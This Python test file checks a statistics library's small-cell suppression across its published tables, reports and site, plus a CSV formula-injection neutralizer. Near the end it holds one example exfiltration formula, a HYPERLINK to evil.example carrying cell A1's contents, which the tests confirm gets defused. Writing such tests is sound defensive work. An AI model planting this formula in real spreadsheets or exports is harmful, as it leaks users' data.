"""What gets published: nothing derived from a suppressed cell, no cell a spreadsheet runs.

The central property: for an audience whose policy suppresses small cells,
every artifact the library publishes (the exported table, its Parquet bytes
and CSV text, every comparison computed from it, the HTML report) is the same
whatever the suppressed cells' true values are.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import re
import tempfile
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

pytest.importorskip("scipy", reason="complementary suppression needs the privacy extra")
pytest.importorskip("jinja2", reason="the report and site need the report extra")
pytest.importorskip("openpyxl", reason="site downloads need the excel extra")

from openpyxl import load_workbook

from feedbackloop import TOTAL, FeedbackLoop, Indicator, IndicatorSeries, Status
from feedbackloop._util import FORMULA_TRIGGERS, neutralize_formula, restore_formula
from feedbackloop.errors import SeriesError, StatisticalWarning
from feedbackloop.planning import Action, ActionPlan, DataInventory, DataNeed
from feedbackloop.privacy import SuppressionPolicy, suppress
from feedbackloop.report import for_audience, render, report, summarize
from feedbackloop.series import index_of_disparity, proportion, share
from feedbackloop.site import build as build_site

WITHHELD = Status.SUPPRESSED_DERIVED.value
AS_OF = dt.date(2024, 6, 1)
GROUPS = ("A", "B", "C", "D")

LOOP_DOC: dict[str, Any] = {
    "name": "Mentoring (test)",
    "indicators": [
        {
            "id": "served",
            "name": "Students matched with a mentor",
            "unit": "students",
            "direction": "higher_is_better",
            "dimensions": ["race"],
        },
        {
            "id": "enrolled",
            "name": "Students enrolled",
            "unit": "students",
            "direction": "higher_is_better",
            "dimensions": ["race"],
        },
    ],
    "shared_result": {
        "id": "mentoring",
        "title": "More students have a mentor",
        "indicators": ["served", "enrolled"],
        "target": {
            "indicator": "served",
            "baseline": {"period": "2022", "value": 100},
            "relative_change": 0.5,
            "period": "2026",
        },
    },
}


@functools.cache
def _loop() -> FeedbackLoop:
    return FeedbackLoop.from_dict(LOOP_DOC)


def _indicator(ind_id: str) -> Indicator:
    return next(i for i in _loop().indicators if i.id == ind_id)


def _series(ind_id: str, values: dict[str, list[int]], *, sensitive: bool) -> IndicatorSeries:
    """A count series by race for 2022 and 2023 (``values[period]`` in GROUPS order)."""
    rows = [
        {"geography": "x", "period": p, "race": g, "value": v}
        for p, vals in values.items()
        for g, v in [*zip(GROUPS, vals, strict=True), (TOTAL, sum(vals))]
    ]
    return IndicatorSeries.from_frame(
        pd.DataFrame(rows), indicator=_indicator(ind_id), dimensions=["race"], sensitive=sensitive
    )


def _enrolled() -> IndicatorSeries:
    return _series(
        "enrolled", {"2022": [90, 120, 150, 180], "2023": [95, 125, 155, 185]}, sensitive=False
    )


def _published(served: IndicatorSeries) -> dict[str, str | bytes]:
    """Every artifact published for the public from ``served`` (sensitive counts)."""
    data = for_audience({"served": served, "enrolled": _enrolled()}, "public")
    out = data["served"]
    target = _loop().shared_result.targets[0]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StatisticalWarning)
        frames = {
            "frame": out.frame,
            "disparity_ratio": out.disparity("race"),
            "disparity_difference": out.disparity("race", "D", measure="difference"),
            "share": share(out, "race"),
            "change": out.change("2022", "2023"),
            "index_of_disparity": index_of_disparity(out, "race"),
            "progress": out.progress(target),
            "rate": proportion(out, data["enrolled"], 100).frame,
        }
    artifacts: dict[str, str | bytes] = {k: f.to_csv(index=False) for k, f in frames.items()}
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "served.parquet"
        out.to_parquet(path)
        artifacts["parquet"] = path.read_bytes()
    artifacts["html"] = render(_loop(), data, charts=False, as_of=AS_OF)
    return artifacts


def _site_files(served: IndicatorSeries) -> dict[str, str | bytes]:
    """Every page and download of the public site built from ``served`` (without charts)."""
    data = {"served": served, "enrolled": _enrolled()}
    out: dict[str, str | bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:
        build_site(_loop(), data, tmp, audience="public", charts=False, as_of=AS_OF)
        for f in sorted(Path(tmp).rglob("*.*")):
            name = f"site/{f.relative_to(tmp).as_posix()}"
            if f.suffix == ".xlsx":  # the zip holds timestamps: compare the cells
                wb = load_workbook(f)
                out[name] = repr([list(ws.values) for ws in wb])
            else:
                out[name] = re.sub(r"on \d{4}-\d\d-\d\d;", "", f.read_text(encoding="utf-8"))
    return out


def _statuses(served: IndicatorSeries) -> list[str]:
    return suppress(served, SuppressionPolicy(threshold=11)).frame["status"].astype(str).tolist()


def _pair(
    published: list[int], late: list[int], small: int, other_small: int
) -> tuple[IndicatorSeries, IndicatorSeries]:
    """Two series that differ only in their withheld cells (the same cells withheld)."""
    first = _series("served", {"2022": published, "2023": [small, *late]}, sensitive=True)
    status = _statuses(first)
    hidden = [i for i, s in enumerate(status) if s in ("suppressed", "suppressed_complementary")]
    assert len(hidden) == 2  # one primary, one complement, both in 2023
    values = first.frame["value"].to_numpy(dtype=float).copy()
    primary, complement = sorted(hidden, key=lambda i: status[i] != "suppressed")
    shift = small - other_small
    values[primary] -= shift
    values[complement] += shift
    frame = first.frame.assign(value=values)
    second = IndicatorSeries.from_frame(
        frame, indicator=first.indicator, dimensions=["race"], sensitive=True
    )
    assume(_statuses(second) == status)  # the same cells are withheld for the same reason
    return first, second


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(
    published=st.lists(st.integers(11, 80), min_size=4, max_size=4),
    late=st.lists(st.integers(11, 80), min_size=3, max_size=3),
    small=st.integers(1, 10),
    other_small=st.integers(1, 10),
)
def test_nothing_published_changes_with_a_suppressed_value(
    published: list[int], late: list[int], small: int, other_small: int
) -> None:
    # 2023's group A is small: the public audience (threshold 11) withholds it and a
    # complementary cell. Move counts between the withheld cells (the published total
    # and cells stay): every artifact must be byte for byte the same.
    first, second = _pair(published, late, small, other_small)
    one, two = _published(first), _published(second)
    for name in one:
        assert one[name] == two[name], name
    # And the comparisons say so: withheld, not blank and not "significant".
    assert WITHHELD in str(one["share"]) and WITHHELD in str(one["change"])
    assert "withheld" in str(one["html"])


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(
    published=st.lists(st.integers(11, 80), min_size=4, max_size=4),
    late=st.lists(st.integers(11, 80), min_size=3, max_size=3),
    small=st.integers(1, 10),
    other_small=st.integers(1, 10),
)
def test_no_site_page_or_download_changes_with_a_suppressed_value(
    published: list[int], late: list[int], small: int, other_small: int
) -> None:
    # The same property for the public site: every page, CSV and XLSX cell.
    first, second = _pair(published, late, small, other_small)
    one, two = _site_files(first), _site_files(second)
    assert "site/downloads/served-trend.csv" in one and "site/indicators/served.html" in one
    assert "withheld" in str(one["site/indicators/served.html"])
    assert one.keys() == two.keys()
    for name in one:
        assert one[name] == two[name], name


def test_report_file_with_charts_is_the_same_whatever_the_suppressed_values(
    tmp_path: Path,
) -> None:
    mpl = pytest.importorskip("matplotlib", reason="charts need the plot extra")
    texts = []
    for a, b in ((4, 40), (9, 35)):  # A is withheld, and B with it; A + B stays 44
        served = _series(
            "served", {"2022": [30, 40, 50, 60], "2023": [a, b, 50, 60]}, sensitive=True
        )
        with mpl.rc_context({"svg.hashsalt": "fixed"}):  # SVG ids are random otherwise
            path = report(
                _loop(), {"served": served}, tmp_path / f"{a}.html", audience="public", as_of=AS_OF
            )
        text = path.read_text(encoding="utf-8")
        texts.append(re.sub(r"<metadata>.*?</metadata>", "", text, flags=re.DOTALL))  # dates
    assert "<svg" in texts[0] and "withheld" in texts[0]
    assert texts[0] == texts[1]


def _public_mentees() -> IndicatorSeries:
    served = _series("served", {"2022": [30, 40, 50, 60], "2023": [4, 40, 50, 60]}, sensitive=True)
    return for_audience({"served": served}, "public")["served"]


def test_comparisons_with_a_suppressed_input_are_withheld() -> None:
    public = _public_mentees()
    hidden = public.frame[public.frame["status"].astype(str).str.startswith("suppressed")]
    assert set(hidden["period"]) == {"2023"} and len(hidden) == 2
    hidden_groups = set(hidden["race"])
    d = public.disparity("race")
    late = d[d["period"].astype(str) == "2023"]
    late.index = late["group"].astype(str)
    for g in GROUPS:
        row = late.loc[g]
        if g in hidden_groups:
            assert row["status"] == WITHHELD
            assert np.isnan(row["disparity"]) and pd.isna(row["significant"])
        else:
            assert row["status"] == Status.ESTIMATE.value
            assert row["disparity"] == pytest.approx(row["value"] / 154)
    # A suppressed reference withholds every comparison with it.
    ref = min(hidden_groups)
    by_ref = public.disparity("race", ref, measure="difference")
    assert (by_ref[by_ref["period"].astype(str) == "2023"]["status"] == WITHHELD).all()
    assert by_ref[by_ref["period"].astype(str) == "2022"]["disparity"].notna().all()
    idx = index_of_disparity(public, "race").set_index("period")
    assert idx.loc["2023", "status"] == WITHHELD and np.isnan(idx.loc["2023", "index_of_disparity"])
    assert idx.loc["2022", "status"] == Status.ESTIMATE.value


def test_change_and_rates_from_a_suppressed_cell_are_withheld() -> None:
    public = _public_mentees()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StatisticalWarning)
        ch = public.change("2022", "2023").set_index("race")
    assert ch.loc["A", "status"] == WITHHELD
    assert ch.loc["A", ["difference", "percent_change"]].isna().all()
    assert ch.loc[TOTAL, "difference"] == 154 - 180
    rate = proportion(public, _enrolled(), 100).frame
    a23 = rate[(rate["race"] == "A") & (rate["period"] == "2023")].iloc[0]
    assert a23["status"] == WITHHELD
    # Neither part of a withheld rate is kept: the denominator and the rate give the other.
    assert pd.isna(a23["value"]) and pd.isna(a23["numerator"]) and pd.isna(a23["denominator"])
    ok = rate[(rate["race"] == "A") & (rate["period"] == "2022")].iloc[0]
    assert ok["status"] == Status.ESTIMATE.value and ok["value"] == pytest.approx(100 * 30 / 90)


def test_progress_from_a_suppressed_baseline_is_withheld() -> None:
    served = _series("served", {"2022": [4, 40, 50, 60], "2023": [30, 40, 50, 60]}, sensitive=True)
    public = for_audience({"served": served}, "public")["served"]
    target = _loop().shared_result.targets[0]  # +50% on the 2022 baseline (or on 100)
    p = public.progress(target).set_index("race")
    assert p.loc["A", "status"] == WITHHELD
    # Not replaced by the target's own baseline (100): that would be a guess, and wrong.
    assert p.loc["A", ["baseline", "target", "percent_change"]].isna().all()
    assert pd.isna(p.loc["A", "on_track"])
    assert p.loc[TOTAL, "status"] != WITHHELD and p.loc[TOTAL, "baseline"] == 154


def test_share_is_for_counts_with_the_proportion_margin() -> None:
    ind = Indicator(id="n", name="N", unit="people", direction="higher_is_better")
    df = pd.DataFrame(
        {
            "geography": "x",
            "period": "2023",
            "race": ["A", "B", TOTAL],
            "value": [203119.0, 427379.0, 630498.0],
            "moe": [5070.0, 6000.0, 831.0],
        }
    )
    s = IndicatorSeries.from_frame(df, indicator=ind, moe="moe", dimensions=["race"])
    a = share(s, "race").set_index("group").loc["A"]
    # domain.md A3: 203,119 ± 5,070 of 630,498 ± 831 is 0.32216 ± 0.00803.
    assert a["share"] == pytest.approx(0.32216, abs=1e-5)
    assert a["share_moe"] == pytest.approx(0.00803, abs=1e-5)
    assert a["status"] == Status.ESTIMATE.value
    rate = Indicator(id="r", name="R", unit="percent", direction="lower_is_better")
    pct = IndicatorSeries.from_frame(
        df.assign(value=[4.0, 9.0, 6.0]), indicator=rate, moe="moe", dimensions=["race"]
    )
    with pytest.raises(SeriesError, match=r"'r' \(percent\) is not a count.*disparity"):
        share(pct, "race")


def test_report_shows_shares_for_counts_and_never_a_withheld_significance() -> None:
    public = _public_mentees()
    summary = summarize(_loop(), _indicator("served"), public)
    assert summary.disparities is not None
    assert "share" in summary.disparities and "disparity" not in summary.disparities
    html = render(_loop(), {"served": public}, charts=False, as_of=AS_OF)
    table = re.search(r"<table><tr><th>Group</th>.*?</table>", html, re.DOTALL)
    assert table is not None
    text = table.group(0)
    assert "<th>Share of all</th>" in text and "Ratio to all" not in text
    assert "Differs significantly" not in text and ">yes<" not in text
    assert "<td>32.5%</td>" in text  # C: 50 of the 2023 total, 154
    assert text.count("<em>withheld</em>") == 2


def test_report_rates_keep_ratio_to_all_and_withheld_rows_say_so() -> None:
    rate = Indicator(
        id="rate", name="Rate", unit="percent", direction="lower_is_better", dimensions=["race"]
    )
    df = pd.DataFrame(
        {
            "geography": "x",
            "period": "2023",
            "race": ["A", "B", TOTAL],
            "value": [np.nan, 9.0, 6.0],
            "moe": [np.nan, 1.0, 0.5],
            "status": ["suppressed", "estimate", "estimate"],
        }
    )
    s = IndicatorSeries.from_frame(df, indicator=rate, moe="moe", dimensions=["race"])
    loop = FeedbackLoop.from_dict(
        {
            "name": "Rates",
            "indicators": [
                {
                    "id": "rate",
                    "name": "Rate",
                    "unit": "percent",
                    "direction": "lower_is_better",
                    "dimensions": ["race"],
                }
            ],
            "shared_result": {"id": "r", "title": "Lower rate", "indicators": ["rate"]},
        }
    )
    html = render(loop, {"rate": s}, charts=False, as_of=AS_OF)
    table = re.search(r"<table><tr><th>Group</th>.*?</table>", html, re.DOTALL)
    assert table is not None
    assert "<th>Ratio to all</th>" in table.group(0)
    row_a = re.search(r"<tr><td>A</td>.*?</tr>", table.group(0))
    assert row_a is not None and "withheld" in row_a.group(0) and "yes" not in row_a.group(0)
    assert "<td>1.50 ± 0.21</td><td>yes</td>" in table.group(0)


# ------------------------------------------------------------ formula neutralizer

texts = st.text(st.sampled_from([*FORMULA_TRIGGERS, "'", "a", "1", ".", " ", "\n", '"', ","]))


@given(texts)
def test_neutralized_text_never_runs_and_reads_back(text: str) -> None:
    safe = neutralize_formula(text)
    assert restore_formula(safe) == text
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", text) is not None
    assert safe == text if number else not safe.startswith(FORMULA_TRIGGERS)


def test_numbers_and_other_values_are_not_touched() -> None:
    assert neutralize_formula(-5) == -5 and neutralize_formula(-1.5) == -1.5
    assert neutralize_formula(None) is None
    assert neutralize_formula("-5") == "-5" and neutralize_formula("+1.5e3") == "+1.5e3"
    assert neutralize_formula("-5 days") == "'-5 days"
    assert neutralize_formula("\tx") == "'\tx" and neutralize_formula("\rx") == "'\rx"
    assert neutralize_formula("a=b") == "a=b"


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_action_plan_csv_cannot_run_formulas_and_reads_back(tmp_path: Path) -> None:
    plan = ActionPlan(
        actions=[
            Action(task=EVIL, deliverable="-1+1", responsible=["@partner"]),
            Action(task="+ follow up", deliverable="Report", responsible=["Backbone"]),
        ],
        name="Plan",
        description="- a bullet\n=2+2",
    )
    text = plan.to_csv(tmp_path / "plan.csv")
    cells = _cells(text)
    assert EVIL not in cells and "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert ActionPlan.from_csv(tmp_path / "plan.csv") == plan


def test_inventory_csv_cannot_run_formulas_and_reads_back(tmp_path: Path) -> None:
    inv = DataInventory(
        needs=[DataNeed(indicator="jobs", name=EVIL, owner="@owner", notes="-note")]
    )
    text = inv.to_csv(tmp_path / "inv.csv")
    cells = _cells(text)
    assert "'" + EVIL in cells and "'@owner" in cells and "'-note" in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert DataInventory.from_csv(tmp_path / "inv.csv") == inv
